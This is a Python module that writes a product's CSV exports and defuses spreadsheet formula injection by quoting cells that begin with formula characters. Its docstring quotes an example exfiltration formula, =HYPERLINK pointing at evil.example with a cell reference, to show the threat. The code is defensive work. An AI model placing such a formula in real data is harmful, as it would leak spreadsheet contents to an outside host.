"""The one CSV writer of every CSV the product writes (the CLI's ``validate
--format csv`` and ``import --format csv``, the app's downloads).

Cells are neutralised against CSV (formula) injection as OWASP recommends: a
text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is written with a leading single quote, so a spreadsheet shows it as text
instead of running it (``=HYPERLINK("http://evil.example/?"&A1;"x")`` typed as
a benchmark label would otherwise run in the customer's spreadsheet). Numbers
stay numbers: a float or int cell is written as the number it is, negative
ones included (``-12.5`` is a value, not a formula).

References
----------
OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterable
from typing import Any, TextIO

#: first characters a spreadsheet reads as the start of a formula (or that hide one)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """``value`` as a CSV cell a spreadsheet cannot run: text starting with one of
    :data:`FORMULA_START` gets a leading ``'``; numbers and booleans are kept
    (a non-finite float becomes an empty cell: no NaN in a customer's file)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return value
    if isinstance(value, (int, float)):
        return value if not isinstance(value, float) or math.isfinite(value) else ""
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def write_csv(rows: Iterable[dict[str, Any]], out: TextIO | None = None) -> str:
    """``rows`` (dicts; columns in order of first appearance, a missing cell
    empty) as CSV with a header, every cell through :func:`safe_cell`; written
    to ``out`` when given, and returned as text otherwise ('' for no rows)."""
    rows = list(rows)
    if not rows:
        return ""
    text = io.StringIO()
    buf = out if out is not None else text
    fields = list(dict.fromkeys(k for r in rows for k in r))
    w = csv.writer(buf)
    w.writerow([safe_cell(f) for f in fields])
    for r in rows:
        w.writerow([safe_cell(r.get(f)) for f in fields])
    return "" if out is not None else text.getvalue()
